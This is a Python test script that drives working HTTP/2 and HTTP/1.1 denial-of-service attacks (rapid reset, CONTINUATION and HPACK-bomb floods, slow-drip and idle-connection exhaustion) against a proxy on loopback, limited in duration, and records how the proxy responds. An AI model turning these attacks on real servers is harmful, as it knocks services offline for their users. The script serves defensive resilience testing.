#!/usr/bin/env python3
"""Hostile HTTP/1.1 and HTTP/2 callers for the e2e hostile-peer suite.

The Rust tests (tests/tests/e2e/hostile.rs) run one attack per process against a real
proxy on loopback and read the single JSON line this prints last: what the attacker
sent and what the proxy did about it (GOAWAY, resets, statuses, when it closed the
connection). Frames are built with hyperframe and hpack, the framing and header layers
of the `h2` package, because an attack needs frames a conforming HTTP/2 library refuses
to send (a header block that never ends, streams beyond the advertised limit).

Every loop is bounded in count and in time, and only loopback addresses are accepted.
"""

import argparse
import collections
import ipaddress
import json
import resource
import socket
import ssl
import sys
import time

import hpack
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hyperframe import frame as fr

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Longest any single attack may run, whatever --duration says.
MAX_DURATION = 30.0
FRAME_SIZE = 16384


def code_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return str(code)


class Clock:
    def __init__(self, duration):
        self.start = time.monotonic()
        self.deadline = self.start + min(duration, MAX_DURATION)

    def now(self):
        return round(time.monotonic() - self.start, 3)

    def left(self):
        return self.deadline - time.monotonic()

    def over(self):
        return self.left() <= 0


def connect(args, alpn=None, timeout=5):
    """A TCP connection to the target, wrapped in mTLS when --cert is given."""
    sock = socket.create_connection((args.host, args.port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not args.cert:
        return sock
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    # The proxy's certificate names a SPIFFE ID, not a host: verify the chain only.
    context.check_hostname = False
    context.load_verify_locations(args.ca)
    context.load_cert_chain(args.cert, args.key)
    context.set_alpn_protocols([alpn or args.alpn])
    return context.wrap_socket(sock)


class Peer:
    """One HTTP/2 client connection driven frame by frame."""

    def __init__(self, args, clock, settings=None, alpn=None, auto_window=True):
        self.clock = clock
        self.sock = connect(args, alpn)
        self.authority = args.authority.encode()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.auto_window = auto_window
        self.remote_settings = {}
        self.goaway = None
        self.closed_at = None
        self.resets = collections.Counter()
        self.reset_streams = {}
        self.statuses = {}
        self.data_bytes = 0
        self.next_stream = 1
        self.buffer = b""
        self.header_block = None
        self.frames_sent = 0
        self.bytes_sent = 0
        self.send_stalled = False
        self.send(PREFACE + fr.SettingsFrame(0, settings=settings or {}).serialize())

    @property
    def closed(self):
        return self.closed_at is not None or self.goaway is not None

    def new_stream(self):
        stream = self.next_stream
        self.next_stream += 2
        return stream

    def headers(self, method, path, extra=()):
        return self.encoder.encode(
            [
                (b":method", method),
                (b":scheme", b"http"),
                (b":authority", self.authority),
                (b":path", path),
            ]
            + list(extra)
        )

    def send(self, data, frames=1):
        """Sends unless the peer is gone; False when it is (or stopped reading)."""
        if self.closed_at is not None:
            return False
        try:
            self.sock.settimeout(max(0.05, min(self.clock.left(), 5.0)))
            self.sock.sendall(data)
        except socket.timeout:
            self.send_stalled = True
            return False
        except (OSError, ssl.SSLError):
            self.mark_closed()
            return False
        self.frames_sent += frames
        self.bytes_sent += len(data)
        return True

    def mark_closed(self):
        if self.closed_at is None:
            self.closed_at = self.clock.now()

    def pump(self, wait=0.0):
        """Reads and handles whatever the proxy sent, waiting up to `wait` for more."""
        deadline = time.monotonic() + wait
        while self.closed_at is None:
            left = deadline - time.monotonic()
            try:
                self.sock.settimeout(max(left, 0.001))
                chunk = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
                if time.monotonic() >= deadline:
                    return
                continue
            except (OSError, ssl.SSLError):
                self.mark_closed()
                return
            if not chunk:
                self.mark_closed()
                return
            self.buffer += chunk
            self.handle_frames()

    def handle_frames(self):
        while len(self.buffer) >= 9:
            frame, length = fr.Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
            self.buffer = self.buffer[9 + length :]
            self.handle(frame)

    def handle(self, frame):
        if isinstance(frame, fr.SettingsFrame):
            if "ACK" not in frame.flags:
                self.remote_settings.update(frame.settings)
                self.send(fr.SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, fr.GoAwayFrame):
            if self.goaway is None:
                self.goaway = {
                    "error": code_name(frame.error_code),
                    "last_stream_id": frame.last_stream_id,
                    "at": self.clock.now(),
                }
        elif isinstance(frame, fr.RstStreamFrame):
            self.resets[code_name(frame.error_code)] += 1
            self.reset_streams[frame.stream_id] = code_name(frame.error_code)
        elif isinstance(frame, (fr.HeadersFrame, fr.ContinuationFrame)):
            if isinstance(frame, fr.HeadersFrame):
                self.header_block = b""
            self.header_block = (self.header_block or b"") + frame.data
            if "END_HEADERS" in frame.flags:
                try:
                    fields = self.decoder.decode(self.header_block, raw=True)
                except hpack.HPACKError:
                    fields = []
                for name, value in fields:
                    if name == b":status":
                        self.statuses.setdefault(frame.stream_id, int(value))
                self.header_block = None
        elif isinstance(frame, fr.DataFrame):
            self.data_bytes += len(frame.data)
            if self.auto_window and frame.flow_controlled_length:
                increment = frame.flow_controlled_length
                self.send(
                    fr.WindowUpdateFrame(0, window_increment=increment).serialize()
                    + fr.WindowUpdateFrame(
                        frame.stream_id, window_increment=increment
                    ).serialize(),
                    frames=2,
                )
        elif isinstance(frame, fr.PingFrame):
            if "ACK" not in frame.flags:
                self.send(fr.PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())

    def await_settings(self, seconds=2.0):
        """Reads until the proxy's SETTINGS arrived (and were acknowledged)."""
        end = time.monotonic() + seconds
        while not self.remote_settings and not self.closed and time.monotonic() < end:
            self.pump(0.01)

    def wait_closed(self, seconds):
        """Keeps reading until the proxy closes the connection or `seconds` pass."""
        end = time.monotonic() + seconds
        while not self.closed and time.monotonic() < end and not self.clock.over():
            self.pump(0.1)

    def report(self):
        return {
            "frames_sent": self.frames_sent,
            "bytes_sent": self.bytes_sent,
            "send_stalled": self.send_stalled,
            "goaway": self.goaway,
            "closed_at": self.closed_at,
            "resets": dict(self.resets),
            "statuses": dict(collections.Counter(self.statuses.values())),
            "max_concurrent_streams": self.remote_settings.get(
                SettingCodes.MAX_CONCURRENT_STREAMS
            ),
        }

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def cut_off(peer):
    return peer.goaway is not None or peer.closed_at is not None


def sustained(args, clock, attack_one, until=None):
    """Runs `attack_one(peer)` on one connection after another until time is up (or
    --connections connections were used): an attacker the proxy cuts off comes back.
    Sums what each connection's attack counted and how the proxy ended each one."""
    until = until or clock.deadline
    totals, endings = collections.Counter(), collections.Counter()
    connections, first = 0, None
    while time.monotonic() < until and connections < args.connections and not clock.over():
        try:
            peer = Peer(args, clock)
        except OSError as error:
            endings[f"connect failed: {error.__class__.__name__}"] += 1
            time.sleep(0.05)
            continue
        connections += 1
        opened = time.monotonic()
        peer.await_settings()
        totals.update(attack_one(peer, until))
        peer.wait_closed(0.2)
        if peer.goaway:
            endings[f"goaway {peer.goaway['error']}"] += 1
        elif peer.closed_at is not None:
            endings["closed"] += 1
        elif time.monotonic() - opened < 2.0:
            # Our time ran out before the proxy had two seconds to act.
            endings["time ran out"] += 1
        else:
            endings["still open"] += 1
        if first is None:
            first = peer.report()
        peer.close()
    return {
        "connections": connections,
        "endings": dict(endings),
        "cut_off": connections > 0 and endings["still open"] == 0,
        "totals": dict(totals),
        "first_connection": first,
    }


def rapid_reset(args, clock):
    """On each connection, 20 requests the proxy forwards (to a slow answer, or a 1 MiB
    one) reset once it has taken them; then HEADERS + RST_STREAM pairs, 100 per write,
    as fast as the proxy takes them."""

    def attack_one(peer, until):
        counts = collections.Counter()
        streams = [peer.new_stream() for _ in range(20)]
        burst = b"".join(
            fr.HeadersFrame(
                s,
                peer.headers(b"GET", b"/slow" if i % 2 else b"/big/1048576"),
                flags=["END_HEADERS", "END_STREAM"],
            ).serialize()
            for i, s in enumerate(streams)
        )
        peer.send(burst, frames=len(streams))
        # Forwarded: the 1 MiB answers' heads arrive, the slow ones are being waited on.
        peer.pump(0.1)
        peer.send(
            b"".join(fr.RstStreamFrame(s, error_code=ErrorCodes.CANCEL).serialize() for s in streams),
            frames=len(streams),
        )
        counts["late_resets"] += len(streams)
        counts["late_reset_after_response_head"] += sum(1 for s in streams if s in peer.statuses)
        while time.monotonic() < until and not cut_off(peer) and counts["immediate_resets"] < args.count:
            batch = b""
            for _ in range(100):
                stream = peer.new_stream()
                batch += fr.HeadersFrame(
                    stream, peer.headers(b"GET", b"/"), flags=["END_HEADERS", "END_STREAM"]
                ).serialize()
                batch += fr.RstStreamFrame(stream, error_code=ErrorCodes.CANCEL).serialize()
            if not peer.send(batch, frames=200):
                break
            counts["immediate_resets"] += 100
            peer.pump(0)
        return counts

    return sustained(args, clock, attack_one)


def continuation(args, clock):
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION
    frames: full ones for the first half of the time, empty ones for the second."""
    results = {}
    half = clock.start + (clock.deadline - clock.start) / 2
    for label, payload, until in (
        ("full", b"\x00" + b"a" * (FRAME_SIZE - 1), half),
        ("empty", b"", clock.deadline),
    ):
        frame_bytes = None

        def attack_one(peer, until, payload=payload):
            nonlocal frame_bytes
            counts = collections.Counter()
            stream = peer.new_stream()
            peer.send(fr.HeadersFrame(stream, peer.headers(b"GET", b"/"), flags=[]).serialize())
            frames = fr.ContinuationFrame(stream, payload, flags=[]).serialize() * 64
            while time.monotonic() < until and not cut_off(peer) and counts["continuations"] < args.count:
                if not peer.send(frames, frames=64):
                    break
                counts["continuations"] += 64
                counts["bytes"] += len(frames)
                peer.pump(0)
            return counts

        results[label] = sustained(args, clock, attack_one, until)
    return results


def hpack_bomb(args, clock):
    """A 3 KB header put in the dynamic table once, then referenced by one-byte indexes
    until each header block decodes to ~190 MB."""
    bomb_value = b"b" * 3000
    statuses, resets = collections.Counter(), collections.Counter()

    def attack_one(peer, until):
        counts = collections.Counter()
        # The first request inserts x-bomb as the newest dynamic entry (index 62); it is
        # a legitimate request.
        stream = peer.new_stream()
        first = peer.headers(b"GET", b"/", [(b"x-bomb", bomb_value)])
        peer.send(fr.HeadersFrame(stream, first, flags=["END_HEADERS", "END_STREAM"]).serialize())
        references = b"\xbe" * (FRAME_SIZE - 64)
        while counts["bombs"] < args.count and not cut_off(peer) and time.monotonic() < until:
            stream = peer.new_stream()
            # HEADERS and three CONTINUATION frames of references (~64 K of them).
            frames = fr.HeadersFrame(stream, peer.headers(b"GET", b"/") + references, flags=[]).serialize()
            for index in range(3):
                flags = ["END_HEADERS"] if index == 2 else []
                frames += fr.ContinuationFrame(stream, references, flags=flags).serialize()
            frames += fr.DataFrame(stream, b"", flags=["END_STREAM"]).serialize()
            if not peer.send(frames, frames=5):
                break
            counts["bombs"] += 1
            peer.pump(0.01)
        peer.wait_closed(0.3)
        statuses.update(str(code) for code in peer.statuses.values())
        resets.update(peer.resets)
        return counts

    result = sustained(args, clock, attack_one)
    result["statuses"] = dict(statuses)
    result["resets"] = dict(resets)
    return result


def zero_window(args, clock):
    """Streams asking for 1 MiB each on connections that advertise a window of 0 and
    never open it."""
    peers, opened = [], 0
    for _ in range(args.connections):
        peer = Peer(args, clock, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0}, auto_window=False)
        peer.await_settings()
        limit = peer.remote_settings.get(SettingCodes.MAX_CONCURRENT_STREAMS, args.count)
        streams = min(limit, args.count)
        batch = b"".join(
            fr.HeadersFrame(
                peer.new_stream(),
                peer.headers(b"GET", b"/big/1048576"),
                flags=["END_HEADERS", "END_STREAM"],
            ).serialize()
            for _ in range(streams)
        )
        peer.send(batch, frames=streams)
        opened += streams
        peers.append(peer)
    while not clock.over():
        for peer in peers:
            peer.pump(0.05)
    reports = [p.report() for p in peers]
    for peer in peers:
        peer.close()
    return {"streams": opened, "connections": reports}


def flood(args, clock, make_frame):
    """One frame kind, 100 per write, as fast as the proxy reads, never reading what it
    answers; a connection the proxy stops reading is held unread to the end."""

    def attack_one(peer, until):
        counts = collections.Counter()
        while time.monotonic() < until and counts["frames"] < args.count and not peer.closed:
            if peer.send(b"".join(make_frame(counts["frames"] + i) for i in range(100)), frames=100):
                counts["frames"] += 100
            elif peer.send_stalled:
                # Part of a write may have gone: hold the connection, unread, to the end.
                counts["stalled"] += 1
                time.sleep(max(0.0, until - time.monotonic()))
                break
            else:
                break
        return counts

    return sustained(args, clock, attack_one)


def settings_flood(args, clock):
    return flood(
        args,
        clock,
        lambda i: fr.SettingsFrame(
            0,
            settings={
                SettingCodes.INITIAL_WINDOW_SIZE: 65535 + i % 2,
                SettingCodes.HEADER_TABLE_SIZE: 4096 - i % 2,
            },
        ).serialize(),
    )


def ping_flood(args, clock):
    return flood(args, clock, lambda i: fr.PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize())


def open_sockets(args, count, first=b"", opened_at=None):
    """`count` connections held open; raises RLIMIT_NOFILE first when it must."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    needed = count + 64
    if soft < needed:
        if hard == resource.RLIM_INFINITY or hard >= needed:
            resource.setrlimit(resource.RLIMIT_NOFILE, (needed, hard))
        else:
            try:
                # Raising the hard limit takes root (CAP_SYS_RESOURCE), as CI runs.
                resource.setrlimit(resource.RLIMIT_NOFILE, (needed, needed))
            except (ValueError, OSError):
                raise SystemExit(f"RLIMIT_NOFILE hard limit {hard} < {needed}: run with `ulimit -n {needed}`")
    sockets = []
    for _ in range(count):
        sock = connect(args, timeout=10)
        # What the connection says first goes at once: a caller silent past the
        # proxy's protocol detection would be relayed as opaque TCP instead.
        if first:
            sock.sendall(first)
        sockets.append(sock)
        if opened_at is not None:
            opened_at.append(time.monotonic())
    return sockets


def closed_by_peer(sock):
    """True when the proxy has closed the connection (EOF or reset), without blocking;
    what it sent before (SETTINGS, a GOAWAY) is read and dropped."""
    sock.setblocking(False)
    try:
        while sock.recv(65536):
            pass
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def idle_connections(args, clock):
    """`--connections` HTTP/2 connections that send the preface and SETTINGS, then
    nothing; held to the end and counted as the proxy closes them."""
    started, opened_at = time.monotonic(), []
    sockets = open_sockets(args, args.connections, PREFACE + fr.SettingsFrame(0).serialize(), opened_at)
    opened_in = round(time.monotonic() - started, 3)
    closed_at = {}
    for index, sock in enumerate(sockets):
        if closed_by_peer(sock):
            closed_at[index] = clock.now()
    # How many were open at once: all but those the proxy closed while the rest opened.
    open_at_once = len(sockets) - len(closed_at)
    while not clock.over():
        for index, sock in enumerate(sockets):
            if index not in closed_at and closed_by_peer(sock):
                closed_at[index] = clock.now()
        time.sleep(0.25)
    end = time.monotonic()
    # Still open although idle for longer than --grace: the proxy did not close them.
    overdue = sum(
        1 for index, opened in enumerate(opened_at) if index not in closed_at and end - opened > args.grace
    )
    for sock in sockets:
        sock.close()
    times = sorted(closed_at.values())
    return {
        "connections": len(sockets),
        "overdue": overdue,
        "opened_in": opened_in,
        "open_at_once": open_at_once,
        "closed_by_proxy": len(times),
        "first_closed_at": times[0] if times else None,
        "last_closed_at": times[-1] if times else None,
    }


def slow_head_http1(args, clock):
    """HTTP/1.1 request heads sent one byte per interval, on many connections."""
    request_line = b"GET / HTTP/1.1\r\n"
    sockets = open_sockets(args, args.connections, request_line)
    head = b"Host: backend\r\nX-Slow: " + b"a" * 100000
    closed_at = {}
    position = 0
    while not clock.over() and len(closed_at) < len(sockets):
        for index, sock in enumerate(sockets):
            if index in closed_at:
                continue
            try:
                sock.setblocking(True)
                sock.settimeout(1)
                sock.send(head[position : position + 1])
            except OSError:
                closed_at[index] = clock.now()
                continue
            if closed_by_peer(sock):
                closed_at[index] = clock.now()
        position += 1
        time.sleep(args.interval)
    for sock in sockets:
        sock.close()
    return summarize_closes(len(sockets), closed_at, position)


def slow_body_http1(args, clock):
    """HTTP/1.1 uploads whose body arrives one byte per interval."""
    head = b"POST /upload HTTP/1.1\r\nHost: backend\r\nContent-Length: 100000\r\n\r\n"
    sockets = open_sockets(args, args.connections, head)
    closed_at, answers = {}, collections.Counter()
    sent = 0
    while not clock.over() and len(closed_at) < len(sockets):
        for index, sock in enumerate(sockets):
            if index in closed_at:
                continue
            try:
                sock.setblocking(False)
                answer = sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError):
                answer = None
            except OSError:
                answer = b""
            if answer is not None:
                if answer:
                    answers[answer.split(b"\r\n", 1)[0].decode(errors="replace")] += 1
                closed_at[index] = clock.now()
                continue
            try:
                sock.setblocking(True)
                sock.settimeout(1)
                sock.send(b"x")
            except OSError:
                closed_at[index] = clock.now()
        sent += 1
        time.sleep(args.interval)
    for sock in sockets:
        sock.close()
    return dict(summarize_closes(len(sockets), closed_at, sent), answers=dict(answers))


def summarize_closes(total, closed_at, bytes_dripped):
    times = sorted(closed_at.values())
    return {
        "connections": total,
        "closed_by_proxy": len(times),
        "bytes_dripped_per_connection": bytes_dripped,
        "first_closed_at": times[0] if times else None,
        "last_closed_at": times[-1] if times else None,
    }


def slow_http2(args, clock, body):
    """HTTP/2 on many connections: either a HEADERS frame whose block never ends
    (`body` false), or a complete head whose DATA arrives one byte per interval."""
    peers = []
    for _ in range(args.connections):
        peer = Peer(args, clock)
        # The proxy's SETTINGS acknowledged first: no frame may interrupt a header block.
        peer.await_settings()
        stream = peer.new_stream()
        if body:
            fields = peer.headers(b"POST", b"/upload", [(b"content-length", b"100000")])
            peer.send(fr.HeadersFrame(stream, fields, flags=["END_HEADERS"]).serialize())
        else:
            # Everything but the last field; END_HEADERS never comes.
            peer.send(fr.HeadersFrame(stream, peer.headers(b"GET", b"/")[:-1], flags=[]).serialize())
        peers.append((peer, stream))
    ended_at = {}
    dripped = 0
    while not clock.over() and len(ended_at) < len(peers):
        for index, (peer, stream) in enumerate(peers):
            if index in ended_at:
                continue
            peer.pump(0)
            if peer.closed or stream in peer.reset_streams or stream in peer.statuses:
                ended_at[index] = clock.now()
            elif body:
                peer.send(fr.DataFrame(stream, b"x").serialize())
        dripped += 1
        time.sleep(args.interval)
    outcomes = collections.Counter()
    for peer, stream in peers:
        if stream in peer.statuses:
            outcomes[f"status {peer.statuses[stream]}"] += 1
        elif stream in peer.reset_streams:
            outcomes["reset"] += 1
        elif peer.goaway:
            outcomes[f"goaway {peer.goaway['error']}"] += 1
        elif peer.closed_at is not None:
            outcomes["closed"] += 1
        else:
            outcomes["open"] += 1
        peer.close()
    return dict(summarize_closes(len(peers), ended_at, dripped), outcomes=dict(outcomes))


def many_streams(args, clock):
    """Streams opened on one connection and never finished or read: uploads whose body
    never comes, on a connection with a window of 0. Opens the advertised limit plus
    --count more, to see the extra ones refused."""
    peer = Peer(args, clock, settings={SettingCodes.INITIAL_WINDOW_SIZE: 0}, auto_window=False)
    peer.await_settings()
    advertised = peer.remote_settings.get(SettingCodes.MAX_CONCURRENT_STREAMS)
    # An unlimited proxy is tried with as many streams as the 3,000.
    target = (advertised if advertised is not None and advertised <= 10000 else 3000) + args.count
    streams = []
    for start in range(0, target, 100):
        batch = b""
        for _ in range(min(100, target - start)):
            stream = peer.new_stream()
            streams.append(stream)
            batch += fr.HeadersFrame(
                stream,
                peer.headers(b"POST", b"/upload", [(b"content-length", b"1000000")]),
                flags=["END_HEADERS"],
            ).serialize()
        if not peer.send(batch, frames=len(streams) - start):
            break
        peer.pump(0)
    print(json.dumps({"event": "opened", "streams": len(streams), "at": clock.now()}), flush=True)
    while not clock.over() and not peer.closed:
        peer.pump(0.1)
    beyond = streams[advertised:] if advertised is not None else []
    refused = sum(1 for s in beyond if peer.reset_streams.get(s) == "REFUSED_STREAM")
    return dict(
        peer.report(),
        streams_opened=len(streams),
        refused_beyond_limit=refused,
        beyond_limit=len(beyond),
    )


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "hpack-bomb": hpack_bomb,
    "zero-window": zero_window,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "idle": idle_connections,
    "slow-head-http1": slow_head_http1,
    "slow-body-http1": slow_body_http1,
    "slow-head-h2": lambda args, clock: slow_http2(args, clock, body=False),
    "slow-body-h2": lambda args, clock: slow_http2(args, clock, body=True),
    "many-streams": many_streams,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--authority", default="backend.shop")
    parser.add_argument("--duration", type=float, default=10.0, help=f"seconds (at most {MAX_DURATION})")
    parser.add_argument("--count", type=int, default=100000, help="upper bound on frames/streams")
    parser.add_argument("--connections", type=int, default=1000, help="connections used (or held)")
    parser.add_argument("--grace", type=float, default=10.0, help="idle seconds after which an open connection is overdue")
    parser.add_argument("--interval", type=float, default=0.5, help="seconds between dripped bytes")
    parser.add_argument("--cert", help="client certificate chain (PEM): speak mTLS as a mesh peer")
    parser.add_argument("--key", help="its private key (PEM)")
    parser.add_argument("--ca", help="roots that sign the proxy's certificate (PEM)")
    parser.add_argument("--alpn", default="tessera/h2")
    args = parser.parse_args()
    if not ipaddress.ip_address(args.host).is_loopback:
        raise SystemExit(f"{args.host} is not a loopback address: attacks stay on this machine")
    clock = Clock(args.duration)
    result = ATTACKS[args.attack](args, clock)
    result["attack"] = args.attack
    result["elapsed"] = clock.now()
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    sys.exit(main())
